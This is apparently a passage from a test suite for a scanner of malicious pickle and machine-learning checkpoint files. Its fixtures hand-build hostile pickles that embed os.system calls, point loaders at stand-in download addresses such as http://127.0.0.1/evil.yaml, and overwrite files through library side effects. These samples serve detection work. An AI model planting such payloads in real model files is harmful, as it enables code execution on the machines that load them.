    return b"".join(raw[at:end] for (op, _, at), end in zip(ops, ends, strict=True)
                    if op.name not in ("PROTO", "BINPUT", "STOP"))  # fmt: skip


def _detector(*spec: tuple[bytes, bytes], args: bytes = b"") -> bytes:
    """A DetectionModel whose state holds the architecture `spec` (and `args`, when given)."""
    pairs = [(_s("yaml"), _dict((_s("nc"), b"K\x02"), *spec))]
    if args:
        pairs.append((_s("args"), args))
    return _module("ultralytics.nn.tasks", "DetectionModel", *pairs)


_CHAIN_MAP = (_g("collections", "ChainMap") + b")\x81"
              + _dict((_s("maps"), _list(_dict((_s("data"), _s("http://127.0.0.1/d.yaml")))))) + b"b")
_BACKBONE = (_s("backbone"), _list(_row("Conv", b"K\x10", b"K\x03", b"K\x02"), _row("nn.Upsample", b"N", b"K\x02",
                                                                                   _s("nearest"))))


@pytest.mark.parametrize(
    ("body", "rule"),
    [
        # review 78: the activation training evaluates, a row naming a function of parse_model's module (which
        # downloaded and unpickled a second file), string arguments older versions evaluate, a spec not read
        (_detector(_BACKBONE, (_s("activation"), _s("__import__('os').system('id') or nn.SiLU()"))), "WS-PKL-054"),
        (_detector((_s("backbone"), _list(_row("load_checkpoint", _s("http://127.0.0.1/stage2.pt"))))), "WS-PKL-054"),
        (_detector((_s("backbone"), _list(_row("nn.functional", b"K\x01")))), "WS-PKL-054"),
        (_detector((_s("head"), _list(_row("Detect", _s("__import__('os')"))))), "WS-PKL-054"),
        (_detector((_s("backbone"), _g("builtins", "dict") + b")R")), "WS-PKL-054"),
        # helper 208: a string argument the walk of 10,000 values reaches last (lists each under the 4,096 kept)
        (_detector((_s("backbone"), _list(_row("Conv", _s("__import__('os').system('id')"),
                                               *[_list(*[b"K\x00"] * 4000)] * 3)))), "WS-PKL-054"),
        # ... arguments val() and a resume fetch, and run: a dataset's address, a teacher model
        (_dict((_s("model"), _detector(_BACKBONE)),
               (_s("train_args"), _dict((_s("data"), _s("http://127.0.0.1/evil.yaml"))))), "WS-PKL-055"),
        (_detector(_BACKBONE, args=_g(*_NAMESPACE) + b")R" + _dict((_s("data"), _s("ul://evil/data"))) + b"b"),
         "WS-PKL-055"),
        (_dict((_s("model"), _detector(_BACKBONE)), (_s("train_args"), _dict((_s("distill_model"), _s("t.pt"))))),
         "WS-PKL-055"),
        # ... a ModelOpt state, which makes YOLO(path) pip-install packages
        (_dict((_s("model"), _detector(_BACKBONE)), (_s("modelopt"), _dict((_s("modes"), _list())))), "WS-PKL-056"),
        # the loader takes any object under ema or model: a torch container keeping the architecture, or its address
        (_dict((_s("model"), _module("torch.nn.modules.container", "Sequential", (_s("yaml"), _dict(
            (_s("activation"), _s("__import__('os').system('id')"))))))), "WS-PKL-054"),
        (_dict((_s("ema"), _module("torch.nn.modules.container", "Sequential",
                                   (_s("yaml"), _s("http://127.0.0.1/spec.yaml"))))), "WS-PKL-055"),
        # arguments given as slot state (setattr), in an OrderedDict checkpoint, or computed
        (_detector(_BACKBONE, args=_g(*_NAMESPACE) + b")R" + _tuple(b"N", _dict((_s("data"), _s("http://x/d.yaml"))))
                   + b"b"), "WS-PKL-055"),
        (_g("collections", "OrderedDict") + b")R" + b"(" + _s("train_args")
         + _dict((_s("data"), _s("http://127.0.0.1/d.yaml"))) + b"u", "WS-PKL-055"),
        (_detector(_BACKBONE, args=_g("builtins", "dict") + _tuple(_g("builtins", "list") + b")R") + b"R"),
         "WS-PKL-054"),
        # review 79: a numpy.str_ equals its text as a key or value (a key of the architecture, the dataset's address,
        # a checkpoint key); arguments in an OrderedDict; `quantize`, whose resume installs ModelOpt too
        (_detector((_numpy_str("activation"), _s("__import__('os').system('id') or nn.SiLU()"))), "WS-PKL-054"),
        (_detector(_BACKBONE, args=_dict((_s("data"), _numpy_str("http://127.0.0.1/d.yaml")))), "WS-PKL-054"),
        (_dict((_s("model"), _detector(_BACKBONE)), (_numpy_str("modelopt"), _dict())), "WS-PKL-054"),
        (_dict((_s("model"), _detector(_BACKBONE)), (_s("train_args"), _g("collections", "OrderedDict") + b")R("
                                                     + _s("distill_model") + _s("http://127.0.0.1/t.pt") + b"u")),
         "WS-PKL-055"),
        (_dict((_s("model"), _detector(_BACKBONE)), (_s("train_args"), _dict((_s("quantize"), b"K\x08")))),
         "WS-PKL-056"),
        # review 80: an OrderedDict given attributes after its items (BUILD sets attributes, not items); a model
        # object's state as (name, value) pairs, or given through torch's _rebuild_from_type_v2; an architecture
        # given as a file name, which the trainer reads
        (_dict((_s("model"), _detector(_BACKBONE)), (_s("train_args"), _g("collections", "OrderedDict") + b")R("
                                                     + _s("data") + _s("http://127.0.0.1/d.yaml") + b"u"
                                                     + _dict((_s("_x"), b"K\x01")) + b"b")), "WS-PKL-055"),
        (_dict((_s("model"), _g("torch.nn.modules.container", "Sequential") + b")\x81"
                + _list(_tuple(_s("yaml"), _dict((_s("activation"), _s("__import__('os')"))))) + b"b")), "WS-PKL-054"),
        (_dict((_s("model"), _g("torch._tensor", "_rebuild_from_type_v2")
                + _tuple(_g("copyreg", "__newobj__"), _g("torch.nn.modules.container", "Sequential"),
                         _tuple(_g("torch.nn.modules.container", "Sequential")),
                         _dict((_s("yaml"), _dict((_s("activation"), _s("__import__('os')")))))) + b"R")),
         "WS-PKL-054"),
        (_dict((_s("model"), _module("torch.nn.modules.container", "Sequential", (_s("yaml"), _s("arch.yaml"))))),
         "WS-PKL-054"),
        # any dict SETITEMS fills (a Counter here) is read as its items
        (_g("collections", "Counter") + b")R(" + _s("model") + _module("torch.nn.modules.container", "Sequential")
         + _s("train_args") + _dict((_s("data"), _s("http://127.0.0.1/d.yaml"))) + b"u", "WS-PKL-055"),
        # review 81: a Counter given its items, then an empty state (its attributes); a ChainMap, whose state holds its
        # maps; a module the user may lack, which the loader pip-installs by name (one only Python 3.13 has); an
        # address with one slash, which Ultralytics' downloader and requests take
        (_dict((_s("model"), _detector(_BACKBONE)), (_s("train_args"), _g("collections", "Counter")
                                                     + _tuple(_dict((_s("data"), _s("http://127.0.0.1/d.yaml"))))
                                                     + b"R" + _dict() + b"b")), "WS-PKL-055"),
        (_dict((_s("model"), _detector(_BACKBONE)), (_s("train_args"), _CHAIN_MAP)), "WS-PKL-055"),
        (_dict((_s("model"), _detector(_BACKBONE)), (_s("extra"), _g("easydict", "EasyDict") + b")\x81")),
         "WS-PKL-058"),
        (_dict((_s("model"), _detector(_BACKBONE)), (_s("extra"), _g("pathlib._local", "PosixPath") + b")\x81")),
         "WS-PKL-058"),
        (_dict((_s("model"), _detector(_BACKBONE)), (_s("train_args"), _dict((_s("model"), _s("http:/x/evil.pt"))))),
         "WS-PKL-055"),
        # review 83: a defaultdict's factory makes what a missing key reads (the architecture's rows; the address a
        # ChainMap's first map lacks), and a torch checkpoint without Ultralytics' names makes YOLO(path) pip-install
        (_module("ultralytics.nn.tasks", "DetectionModel", (
            _s("yaml"), _g("collections", "defaultdict") + _tuple(_partial(_g("builtins", "list")), _dict()) + b"R")),
         "WS-PKL-054"),
        (_dict((_s("model"), _detector(_BACKBONE)), (_s("train_args"), _g("collections", "ChainMap") + b")\x81"
                                                     + _dict((_s("maps"), _list(
                                                         _g("collections", "defaultdict")
                                                         + _tuple(_partial(_g("builtins", "str")), _dict()) + b"R",
                                                         _dict((_s("data"), _s("coco8.yaml")))))) + b"b")),
         "WS-PKL-054"),
        (_dict((_s("model"), _module("torch.nn.modules.container", "Sequential")),
               (_s("notes"), _g("easydict", "EasyDict") + b")\x81")), "WS-PKL-058"),
    ],
    ids=["activation-code", "layer-function", "layer-module", "argument-code", "spec-computed",
         "argument-past-the-walk", "data-address", "args-address", "teacher-model", "modelopt", "other-class-spec",
         "spec-address", "args-slot-state",
         "ordered-checkpoint", "args-computed", "numpy-key", "numpy-value", "numpy-checkpoint-key",
         "ordered-arguments", "quantize", "ordered-with-attributes", "pair-state", "rebuild-from-type",
         "spec-file", "counter-checkpoint", "counter-with-attributes", "chain-map", "missing-module",
         "python-313-module", "one-slash-address", "defaultdict-architecture", "chain-map-defaultdict",
         "torch-checkpoint-module"],
)
def test_what_ultralytics_runs_from_a_checkpoints_data_is_judged(tmp_path: Path, body: bytes, rule: str) -> None:
    _assert_flagged(tmp_path, b"\x80\x04" + body + b".", "yolo.pkl", rule)


def test_a_real_architecture_and_a_huge_image_size_in_a_yolo_checkpoint(tmp_path: Path) -> None:
    """What real checkpoints keep passes (layers of Ultralytics and torch, `nn.SiLU()`, names as arguments); an
    image size past 8,192 (predict allocates pictures of it) is medium."""
    spec = (_BACKBONE, (_s("activation"), _s("nn.LeakyReLU(0.1, inplace=True)")))
    assert not scan_bytes(tmp_path, b"\x80\x04" + _detector(*spec) + b".", "yolo.pkl").findings
    huge = _dict((_s("model"), _detector(*spec)), (_s("train_args"), _dict((_s("imgsz"), b"J\x40\x0d\x03\x00"))))
    found = scan_bytes(tmp_path, b"\x80\x04" + huge + b".", "huge.pkl").findings
    assert [(f.rule_id, f.severity) for f in found] == [("WS-PKL-057", Severity.MEDIUM)]
    # another library's model object keeping something else under `args` is its own business, unless the checkpoint
    # is Ultralytics' (its `train_args` key): then arguments wscan cannot read as a dict are high
    other = _dict((_s("model"), _module("torch.nn.modules.container", "Sequential", (_s("args"), _tuple(b"K\x01")))))
    assert not scan_bytes(tmp_path, b"\x80\x04" + other + b".", "other.pkl").findings
    ours = other[:-1] + _s("train_args") + _dict() + b"u"
    _assert_flagged(tmp_path, b"\x80\x04" + ours + b".", "ours.pkl", "WS-PKL-054")
    # review 80: an architecture that repeats a block two million times, or builds a layer of 40,000 channels
    for row in (_list(b"J" + (-1).to_bytes(4, "little", signed=True), b"J\x80\x84\x1e\x00", _s("C2f"), _list(b"K\x10")),
                _list(b"J" + (-1).to_bytes(4, "little", signed=True), b"G" + struct.pack(">d", 2e6), _s("C2f"),
                      _list(b"K\x10")),  # review 83: a float repeat count is rounded
                _row("Conv", b"J\x40\x9c\x00\x00", b"K\x03")):
        big = _detector((_s("backbone"), _list(row)))
        found = scan_bytes(tmp_path, b"\x80\x04" + big + b".", "big.pkl").findings
        assert [(f.rule_id, f.severity) for f in found] == [("WS-PKL-057", Severity.MEDIUM)]
    # review 79: a classifier's stored crop, which predict pads each picture to
    crop = _module("torchvision.transforms.transforms", "CenterCrop", (_s("size"), _tuple(b"J`\xea\x00\x00", b"K\x20")))
    found = scan_bytes(tmp_path, b"\x80\x04" + crop + b".", "crop.pkl").findings
    assert [(f.rule_id, f.severity) for f in found] == [("WS-PKL-057", Severity.MEDIUM)]


@pytest.mark.parametrize(
    ("body", "rule"),
    [
        # a statsmodels model real files only restore from state, called with arguments the file chose
        (_g("statsmodels.regression.linear_model", "OLS") + _tuple(b"K\x01", b"K\x02") + b"R", "WS-PKL-014"),
        # itemgetter made is a value (river's BagOfWords); calling what it returns is calling a computed value
        (_g("operator", "itemgetter") + _tuple(_s("text")) + b"R" + _tuple(_dict()) + b"R", "WS-PKL-005"),
        (_g("operator", "attrgetter") + _tuple(_s("text")) + b"R", "WS-PKL-001"),
        # review 67: a Cython state-space class called with sizes the file chose read past its buffer (SIGSEGV); the
        # Cython smoothing function ETS keeps as a value, called with the file's arrays, wrote past its output
        (_g("statsmodels.tsa.statespace._simulation_smoother", "dSimulationSmoother")
         + _tuple(b"N", b"J\x80\x96\x98\x00") + b"R", "WS-PKL-014"),
        (_g("statsmodels.tsa.exponential_smoothing._ets_smooth", "_ets_smooth_add_add") + _tuple(b"N", b"N") + b"R",
         "WS-PKL-003"),
        # review 67: an OLS fitted from arrays given a formula and a model spec, which predict() evaluates; the data
        # object given the spec
        (_g("statsmodels.regression.linear_model", "OLS") + b")\x81"
         + _dict((_s("formula"), _s("y ~ x")), (_s("model_spec"), _s("I(x)"))) + b"b", "WS-PKL-051"),
        (_g("statsmodels.base.data", "PandasData") + b")\x81" + _dict((_s("model_spec"), _s("I(x)"))) + b"b",
         "WS-PKL-051"),
        # statsmodels' Bunch is its own state: its items are judged as a dict state's (a class under a method's name)
        (_bunch_with(_s("keys"), _g("collections", "OrderedDict")), "WS-PKL-026"),
    ],
    ids=["called-model", "itemgetter-called", "attrgetter", "state-space-called", "ets-smoothing-called",
         "model-formula", "data-model-spec", "bunch-method-name"],
)
def test_stats_library_names_stay_judged_by_how_they_are_used(tmp_path: Path, body: bytes, rule: str) -> None:
    found = scan_bytes(tmp_path, b"\x80\x02" + body + b".", "model.pkl").findings
    assert rule in {f.rule_id for f in found if f.severity >= Severity.HIGH}


class _Payload:
    """Pickles as os.mkdir(path): nothing runs when saved."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return (os.mkdir, (str(self.path),))


class _LoadBytes:
    """Pickles as torch.storage._load_from_bytes(data), as a tensor's storage does under pickle.dump."""

    def __init__(self, data: object) -> None:
        self.data = data

    def __reduce__(self) -> tuple[object, tuple[object]]:
        from torch.storage import _load_from_bytes

        return (_load_from_bytes, (self.data,))


def test_pickled_tensors_are_judged_by_the_torch_files_they_hold(tmp_path: Path) -> None:
    """pickle.dump (and joblib.dump) of tensors stores each storage as torch.storage._load_from_bytes(b), which
    torch.load(weights_only=False)s the bytes b: always critical before. The bytes are a constant, so they are now
    scanned as a torch file of their own, for every protocol and for bytes past the kept prefix (at protocol 0, a
    line past 64 KiB, read back and decoded as raw-unicode-escape); a payload in them is critical (proved with
    plain pickle.load), a real pickle of tensors is clean."""
    import joblib
    import torch

    tensors = {"small": torch.arange(3), "big": torch.randn(3000), "half": torch.ones(2, dtype=torch.float16),
               "long": torch.arange(40_000, dtype=torch.float32)}  # at protocol 0, a 377,000-byte line
    for protocol in range(pickle.HIGHEST_PROTOCOL + 1):
        assert not _rules(tmp_path / f"real-{protocol}", pickle.dumps(tensors, protocol=protocol)), protocol
    joblib.dump(tensors, tmp_path / "tensors.joblib", compress=3)
    assert not _rules(tmp_path / "joblib", (tmp_path / "tensors.joblib").read_bytes())

    marker = tmp_path / "marker"
    held = io.BytesIO()
    torch.save({"pad": "\0" * 100_000, "payload": _Payload(marker)}, held, _use_new_zipfile_serialization=False)
    for protocol in (0, 1, 2, 5):
        blob = pickle.dumps({"t": _LoadBytes(held.getvalue())}, protocol=protocol)
        sample = tmp_path / f"hostile-{protocol}.pkl"
        sample.write_bytes(blob)
        _load_in_subprocess(sample, "pickle")
        assert marker.is_dir(), protocol
        marker.rmdir()
        found = scan_bytes(tmp_path / f"scan-{protocol}", blob, "tensors.pkl").findings
        critical = [f for f in found if f.severity >= Severity.CRITICAL]
        assert [f.evidence.get("callable") for f in critical] == ["posix.mkdir"], protocol
        assert str(critical[0].location.member).startswith("@"), critical[0].location  # inside the held bytes


def test_load_from_bytes_on_anything_but_a_constant_stays_critical(tmp_path: Path) -> None:
    """What the scanner cannot open is judged as the call it is: bytes computed by a call, the loader passed to
    a partial, reached with getattr, or kept in a tuple for a helper to call."""
    loader = _g("torch.storage", "_load_from_bytes")
    computed = _g("_codecs", "encode") + _tuple(_s("payload"), _s("rot13")) + b"R"
    cases = {
        "computed": loader + _tuple(computed) + b"R",
        "partial": _g("functools", "partial") + _tuple(loader, b"C\x03abc") + b"R)R",
        "getattr": _g("builtins", "getattr") + _tuple(_g("torch", "storage"), _s("_load_from_bytes")) + b"R"
        + _tuple(b"C\x03abc") + b"R",
        "escaped": _tuple(loader, b"C\x03abc") + b"0" + loader + _tuple(b"C\x03abc") + b"R",
    }
    for name, body in cases.items():
        found = _rules(tmp_path / name, b"\x80\x03" + body + b".")
        assert found & {"WS-PKL-001", "WS-PKL-017"}, (name, found)


def test_a_bytearray_changed_before_the_load_is_not_read_as_written(tmp_path: Path) -> None:
    """BYTEARRAY8 makes a mutable constant, and APPENDS extends it in place: the bytes _load_from_bytes gets are
    not the ones written (a review built a payload byte by byte from an empty bytearray; torch.load ran it while
    its magic number was being read). A changed constant is unknown, so the call stays critical."""
    marker = tmp_path / "marker"
    payload = b"cos\nmkdir\n(S'" + str(marker).encode() + b"'\ntR."
    appends = b"(" + b"".join(b"K" + bytes([c]) for c in payload) + b"e"
    blob = b"\x80\x05" + _g("torch.storage", "_load_from_bytes") + b"\x96" + (0).to_bytes(8, "little")
    blob += appends + b"\x85R."
    sample = tmp_path / "changed.pkl"
    sample.write_bytes(blob)
    _load_in_subprocess(sample, "pickle")
    assert marker.is_dir(), "the extended bytearray did not run"
    assert "WS-PKL-001" in _rules(tmp_path / "scan", blob)


def test_a_checkpoint_item_placed_by_a_computed_value_is_high(tmp_path: Path) -> None:
    """A `.metadata` record whose offset the pickle computes (int("5")): where dcp.load reads cannot be known."""
    info = _g("torch.distributed.checkpoint.filesystem", "_StorageInfo") + b")\x81"
    offset = _g("builtins", "int") + _tuple(_s("5")) + b"R"
    state = _dict((_s("relative_path"), _s("__0_0.distcp")), (_s("offset"), offset), (_s("length"), b"K\x0a"))
    (tmp_path / "__0_0.distcp").write_bytes(b"\0" * 32)
    found = scan_bytes(tmp_path, b"\x80\x02" + info + state + b"b.", ".metadata").findings
    assert "WS-PKL-020" in {f.rule_id for f in found}, found


def test_rebuild_from_type_on_a_restored_object_is_a_second_build(tmp_path: Path) -> None:
    """_rebuild_from_type_v2(restore_type_tag, type, (X, tag), state) returns X itself and sets `state` on it
    (its __setstate__, which the first BUILD may have replaced): a second BUILD by another name (a review)."""
    identity = ("torch.nn.modules.linear", "Identity")
    restored = _restored_module(identity, (_s("__setstate__"), _g("torch.nn.modules.linear", "Linear"))) + b"q\x050"
    again = _g("torch._tensor", "_rebuild_from_type_v2") + _tuple(
        _g("torch.jit._pickle", "restore_type_tag"), _g(*identity), _tuple(b"h\x05", _s("tag")), _tuple(b"K\x03")
    ) + b"R"
    assert {"WS-PKL-018", "WS-PKL-014"} <= _rules(tmp_path, b"\x80\x02" + restored + again + b".")


# --- bounds on the day's new paths (a robustness review measured each blow-up on the first version) -------------


def _children(blob: bytes) -> tuple[list[object], list[str]]:
    """What the pickle scanner yields for `blob`: child blobs, and observation kinds."""
    from wscan.limits import Budget, Limits
    from wscan.model import Location, Observation
    from wscan.scanners.base import Artifact, ScanContext
    from wscan.scanners.pickle import PickleScanner

    limits = Limits()
    artifact = Artifact(Location("t.pkl"), len(blob), lambda: io.BytesIO(blob), name="t.pkl")
    items = list(PickleScanner().scan(artifact, ScanContext(limits, Budget(limits))))
    return [i for i in items if not isinstance(i, Observation)], [i.kind for i in items if isinstance(i, Observation)]


def test_the_same_bytes_loaded_many_times_are_one_blob() -> None:
    """A memoised constant handed to _load_from_bytes 1,000 times is scanned once (nested seven deep with ten
    calls each, the first version made 10^7 blobs from a 70 KB file and ran out of memory)."""
    call = _g("torch.storage", "_load_from_bytes")
    blob = b"\x80\x03" + call + b"q\x01" + b"C\x01xq\x02" + b"(" + b"h\x01(h\x02tR" * 1000 + b"l."
    children, kinds = _children(blob)
    assert len(children) == 1 and "pickle.import" not in kinds


def test_an_object_changed_many_times_is_judged_once() -> None:
    """Each change of a restored object used to judge its whole state again: 4,096 entries times 6,000 changes
    took 12 GB. The first change reports it and judges the state; the rest add nothing."""
    computed = _g("builtins", "getattr") + _tuple(_g("collections", "OrderedDict"), _s("fromkeys")) + b")R"
    state = b"}(" + b"".join(_s(f"k{i}") + b"h\x03" for i in range(100)) + b"u"
    head = b"\x80\x02" + computed + b"q\x03" + _g("argparse", "Namespace") + b")R" + state + b"b"
    blob = head + b"K\x01K\x02s" * 500 + b"."
    _, kinds = _children(blob)
    assert kinds.count("pickle.changed_after_build") == 1
    assert kinds.count("pickle.dynamic_call") <= 2  # the computed value is one object: judged once


def test_a_checkpoint_item_named_with_a_lone_surrogate_does_not_stop_the_others(tmp_path: Path) -> None:
    """A record naming a file the file system cannot take ('\\ud800') ended the walk with an error, so a later,
    hostile item was never scanned. It is a name outside the folder (high); the next item is still scanned."""
    info = _g("torch.distributed.checkpoint.filesystem", "_StorageInfo") + b")\x81"

    def record(name_field: bytes, length: int) -> bytes:
        return info + _dict((_s("relative_path"), name_field), (_s("offset"), b"K\x00"),
                            (_s("length"), b"M" + length.to_bytes(2, "little"))) + b"b"  # fmt: skip

    payload = b"cos\nsystem\n(S'true'\ntR."
    (tmp_path / "__0_0.distcp").write_bytes(payload)
    surrogate = b"X\x03\x00\x00\x00\xed\xa0\x80"
    blob = b"\x80\x02(" + record(surrogate, 8) + record(_s("__0_0.distcp"), len(payload)) + b"l."
    found = {f.rule_id for f in scan_bytes(tmp_path, blob, ".metadata").findings}
    assert {"WS-PKL-019", "WS-PKL-001"} <= found, found


def test_the_machine_looks_at_the_deadline_while_it_runs() -> None:
    """One opcode can cost much (a call forwarded through nested partials ran 205 s past a 30 s limit): the
    machine asks for the time every 1,024 opcodes, and the deadline stops it."""
    from wscan.limits import BudgetExceeded, Limits
    from wscan.scanners.pickle_ops import Stream
    from wscan.scanners.pickle_vm import Machine

    asked = []

    def deadline() -> None:
        asked.append(1)
        raise BudgetExceeded("max-seconds-per-file", "test")

    blob = b"\x80\x02" + b"N0" * 5000 + b"N."
    res = Machine(Stream(io.BytesIO(blob), limit=len(blob)), Limits(), check_time=deadline).run()
    assert res.over_budget is not None and res.over_budget.limit == "max-seconds-per-file"
    assert asked == [1] and not res.stopped and res.opcodes == 1024


def test_an_item_named_like_a_method_pickle_calls_is_high(tmp_path: Path) -> None:
    """EasyDict makes every item an attribute, and BUILD calls the instance's `__setstate__`: an item by that name
    runs (proved with os.mkdir and plain pickle.load). Real EasyDict configs pass; an allowed callable stored so is
    judged as called (WS-PKL-021, and a layer constructor's WS-PKL-014)."""
    from easydict import EasyDict

    assert not _rules(tmp_path / "real", pickle.dumps(EasyDict({"lr": 0.1, "model": {"depth": 3}, "add": 1})))
    marker = tmp_path / "marker"
    made = _g("easydict", "EasyDict") + b")\x81"

    def stream(method: bytes, argument: bytes) -> bytes:
        return b"\x80\x02" + made + b"(" + _s("__setstate__") + method + b"u" + argument + b"b."

    sample = tmp_path / "config.pkl"
    sample.write_bytes(stream(_g("os", "mkdir"), _s(str(marker))))
    _load_in_subprocess(sample, "pickle")
    assert marker.is_dir(), "BUILD did not call the __setstate__ item"
    found = _rules(tmp_path / "layer", stream(_g("torch.nn.modules.linear", "Linear"), b"K\x03"))
    assert {"WS-PKL-021", "WS-PKL-014"} <= found, found
    appended = b"\x80\x02" + made + b"(" + _s("extend") + _g("torch.nn.functional", "relu") + b"u(K\x01e."
    assert {"WS-PKL-021", "WS-PKL-003"} <= _rules(tmp_path / "appends", appended)


def test_lightning_attribute_dicts_pass_and_their_method_items_do_not(tmp_path: Path) -> None:
    """A checkpoint Lightning wrote with an AttributeDict in its hyperparameters passes. AttributeDict answers a
    missing attribute from its items, so an item named `__setstate__` is what BUILD calls (WS-PKL-021)."""
    real = Path(__file__).parent / "data" / "lightning" / "attributedict_hparams.ckpt"
    assert not _rules(tmp_path / "real", real.read_bytes())
    made = _g("lightning.pytorch.utilities.parsing", "AttributeDict") + b")\x81"
    hostile = b"\x80\x02" + made + b"(" + _s("__setstate__") + _g("torch.nn.modules.linear", "Linear") + b"uK\x03b."
    assert {"WS-PKL-021", "WS-PKL-014"} <= _rules(tmp_path / "hostile", hostile)


@pytest.mark.parametrize("name", ["adam_steplr.ckpt", "sgd_cosine.ckpt"])
def test_lightning_hyperparameters_keeping_optimizer_and_scheduler_classes_pass(tmp_path: Path, name: str) -> None:
    """Helper 266: save_hyperparameters() keeps the optimizer and scheduler classes a module was given (darts' models
    do); the scheduler class was WS-PKL-022. Calling either only stores parameters and sets learning rates."""
    real = Path(__file__).parent / "data" / "lightning" / name
    assert not _rules(tmp_path, real.read_bytes())


def test_sklearn_memory_folder_is_written_at_fit(tmp_path: Path) -> None:
    """A thirteenth review's bypass: a Pipeline whose `memory` names a folder writes a joblib cache there when the
    loaded pipeline is fitted (refit, cross-validated). Proved with the real loader; high whatever the path."""
    import joblib
    import numpy as np
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import StandardScaler

    x = np.linspace(0.0, 1.0, 24).reshape(8, 3)
    y = np.array([0, 1] * 4)
    pipeline = Pipeline([("scale", StandardScaler()), ("model", LogisticRegression())]).fit(x, y)
    cache = tmp_path / "elsewhere" / "cache"
    pipeline.memory = str(cache)
    sample = tmp_path / "model" / "pipeline.joblib"
    sample.parent.mkdir()
    joblib.dump(pipeline, sample)

    fit = "import joblib, sys, numpy as np; p = joblib.load(sys.argv[1]); p.fit(np.eye(4, 3), [0, 1, 0, 1])"
    subprocess.run([sys.executable, "-I", "-c", fit, str(sample)], check=True, capture_output=True, timeout=120)
    assert any(cache.rglob("output.pkl")), "scikit-learn no longer caches at the pipeline's memory: revisit the rule"

    report = scan_bytes(tmp_path / "scan", sample.read_bytes(), "pipeline.joblib")
    high = [f for f in report.findings if f.severity >= Severity.HIGH]
    assert [f.rule_id for f in high] == ["WS-PKL-033"], high
    pipeline.memory = None
    assert not scan_bytes(tmp_path / "plain", pickle.dumps(pipeline, protocol=5), "pipeline.pkl").findings


def test_an_author_topic_models_serialization_path_is_rewritten_at_update(tmp_path: Path) -> None:
    """gensim's AuthorTopicModel with `serialized` set copies and rewrites the corpus file its `serialization_path`
    names at update(). Proved with gensim's own load and update: a file outside the model folder is overwritten. The
    model as gensim saves it by default (no path) passes; a path is WS-PKL-033."""
    import shutil

    from gensim.corpora import Dictionary
    from gensim.models import AuthorTopicModel
    from gensim.utils import SaveLoad

    texts = [["cat", "sat", "mat"], ["dogs", "ran", "fast"], ["big", "red", "dog"]] * 4
    words = Dictionary(texts)
    corpus = [words.doc2bow(text) for text in texts]
    real = tmp_path / "real" / "author-topic.model"
    real.parent.mkdir()
    authors = {"alice": list(range(6)), "bob": list(range(6, 12))}
    AuthorTopicModel(corpus, num_topics=2, id2word=words, author2doc=authors, random_state=7, passes=1).save(str(real))
    assert not scan_bytes(tmp_path / "real-scan", real.read_bytes(), "author-topic.model").findings

    precious = tmp_path / "elsewhere" / "notes.txt"
    precious.parent.mkdir()
    precious.write_text("kept\n")
    loaded = SaveLoad.load(str(real))  # made above, by gensim
    loaded.serialized, loaded.serialization_path = True, str(precious)
    loaded.corpus = Dictionary([["a"]])  # an allowed object whose attributes can be set, iterated by the rewrite
    hostile = tmp_path / "model" / "author-topic.model"
    hostile.parent.mkdir()
    hostile.write_bytes(pickle.dumps(loaded, protocol=4))
    for side in real.parent.glob("author-topic.model.*"):  # its arrays and sub-models, as gensim saved them
        shutil.copy(side, hostile.parent / side.name)
    update = (
        "import sys; from gensim.models import AuthorTopicModel; "
        "AuthorTopicModel.load(sys.argv[1]).update([[(0, 1)]], author2doc={'carol': [0]})"
    )
    subprocess.run([sys.executable, "-c", update, str(hostile)], capture_output=True, timeout=300, check=False)
    assert precious.read_text() != "kept\n", "gensim no longer rewrites the serialization path: revisit WS-PKL-033"
    high = [f for f in scan_bytes(tmp_path / "scan", hostile.read_bytes(), "author-topic.model").findings
            if f.severity >= Severity.HIGH]  # fmt: skip
    assert [f.rule_id for f in high] == ["WS-PKL-033"], high


def _unicode(text: str) -> bytes:
    data = text.encode()
    return b"X" + len(data).to_bytes(4, "little") + data


def _reconstruct(module: str, name: str) -> bytes:
    """Protocol 2 opcodes leaving copyreg._reconstructor(module.name, object, None) on the stack."""
    return (b"ccopy_reg\n_reconstructor\n(c" + module.encode() + b"\n" + name.encode() + b"\n"
            b"c__builtin__\nobject\nNtR")  # fmt: skip


def _state(pairs: dict[str, str | bool | None]) -> bytes:
    """A dict of text keys and text, None or bool values, built with SETITEMS."""
    out = b"}q\x01("
    for key, value in pairs.items():
        out += _unicode(key) + (b"N" if value is None else b"\x88" if value is True else _unicode(str(value)))
    return out + b"u"


def test_review_21_state_changed_after_build_is_judged_as_built(tmp_path: Path) -> None:
    """Review 21: BUILD copies the state's items into the instance; a SETITEMS on the same dict afterwards changes
    what the stream's end shows, not the object. An EnsembleLda built with a module of the model's folder, whose
    state dict was then given gensim's own names, imported that module at save(). Judged as BUILD copied it now."""
    state = {"topic_model_module_string": "topic_helper", "topic_model_class_string": "LdaModel",
             "topic_model_class": None}  # fmt: skip
    renamed = (b"\x80\x02" + _reconstruct("gensim.models.ensemblelda", "EnsembleLda") + _state(state) + b"b"
               + b"h\x01(" + _unicode("topic_model_module_string") + _unicode("gensim.models.ldamodel") + b"u0.")
    folder = tmp_path / "model"
    folder.mkdir()
    marker = tmp_path / "imported"
    (folder / "topic_helper.py").write_text(f"open({str(marker)!r}, 'w').close()\nLdaModel = dict\n")
    (folder / "ensemble.model").write_bytes(renamed)
    use = "import sys; from gensim.models import EnsembleLda; EnsembleLda.load(sys.argv[1]).save(sys.argv[1] + '.2')"
    env = {**os.environ, "PYTHONPATH": str(folder)}
    subprocess.run([sys.executable, "-c", use, str(folder / "ensemble.model")], env=env, capture_output=True,
                   timeout=300, check=False)  # fmt: skip
    assert marker.exists(), "gensim no longer imports the module its state names: revisit WS-PKL-038"
    # ... and the change itself is WS-PKL-018 since helper 233: no writer sets items on a state after its BUILD
    assert _rules(tmp_path / "renamed", renamed) == {"WS-PKL-038", "WS-PKL-018"}


def test_review_21_a_state_built_into_a_decoy_first_is_judged_for_each_class(tmp_path: Path) -> None:
    """Review 21: the same state dict BUILT into a gensim Dictionary, then into an AuthorTopicModel, was judged only
    as the Dictionary's, and the model's serialization_path (rewritten at update(), proved in the test above)
    passed. Python's own loader gives the model the path."""
    state = {"serialized": True, "serialization_path": str(tmp_path / "elsewhere.txt")}
    decoy = (b"\x80\x02" + _reconstruct("gensim.corpora.dictionary", "Dictionary") + _state(state) + b"b0"
             + _reconstruct("gensim.models.atmodel", "AuthorTopicModel") + b"h\x01b.")
    sample = tmp_path / "author-topic.model"
    sample.write_bytes(decoy)
